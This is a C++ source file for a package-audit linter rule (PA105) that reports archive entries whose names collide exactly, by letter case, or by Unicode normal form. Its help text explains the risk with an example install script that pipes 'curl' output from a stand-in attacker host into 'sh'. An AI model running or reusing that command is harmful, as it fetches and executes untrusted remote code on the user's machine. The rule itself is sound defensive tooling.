#include <map>

#include <fmt/format.h>

#include "rules/rule.hpp"
#include "text/nfd.hpp"
#include "text/ascii.hpp"
#include "text/utf8.hpp"

namespace pkgaudit::rules {
namespace {

constexpr std::string_view kHelp = R"md(## What it does
Reports two entries with the same normalised name (both are audited: pkgaudit
reads entries by index, never by name) as an error, and names that differ
only in letter case, or only in Unicode normal form (`café` composed, NFC,
against `cafe` plus a combining accent, NFD), as a warning.

## Why is this bad?
Which of two same-named entries an extractor keeps depends on the
extractor: a reviewer may read the harmless one while the installer runs
the other. Names equal up to case collide on case-insensitive file systems
(macOS, Windows) the same way, and names equal up to normalisation on
macOS file systems, which store names decomposed.

## Example
```
install.sh     echo upgrading
install.sh     curl -s https://evil.example | sh
```

## Use instead
One entry per name; rebuild the package from a directory.
)md";

void check(const model::Package& package, FindingSink& sink) {
  std::map<std::string, const model::File*> exact, normalised, folded;
  for (const model::File& file : package.files) {
    if (file.kind == FileKind::directory || file.name.is_directory || file.name.unnamed()) continue;
    if (const auto [it, inserted] = exact.emplace(file.path, &file); !inserted) {
      sink.report_file(file, fmt::format("a second entry named '{}': extractors disagree on which one wins; both were "
                                         "audited",
                                         text::printable(file.path)));
      continue;
    }
    const std::string decomposed = text::nfd(file.path);
    if (const auto [it, inserted] = normalised.emplace(decomposed, &file); !inserted) {
      sink.report_file(file,
                       fmt::format("'{}' and '{}' are one name in two Unicode normal forms (NFC and NFD): macOS file "
                                   "systems and some extractors treat them as the same file, so one overwrites the "
                                   "other",
                                   text::printable(it->second->path), text::printable(file.path)),
                       Level::warning);
      continue;
    }
    const std::string key = text::ascii_lower(decomposed);
    if (const auto [it, inserted] = folded.emplace(key, &file); !inserted) {
      sink.report_file(file,
                       fmt::format("'{}' and '{}' differ only in letter case: on a case-insensitive file system one "
                                   "overwrites the other",
                                   text::printable(it->second->path), text::printable(file.path)),
                       Level::warning);
    }
  }
}

}  // namespace

extern const Rule PA105_duplicate_entry;
const Rule PA105_duplicate_entry{
    {.id = "PA105",
     .name = "duplicate-entry",
     .level = Level::error,
     .summary = "two entries with the same normalised name",
     .help = kHelp,
     .fix = "one entry per name: rebuild the package from a directory",
     .tags = {"archive", "security"},
     .security_severity = 6.5},
    check, /*after_suppressions=*/false, /*whole_package=*/true};

}  // namespace pkgaudit::rules
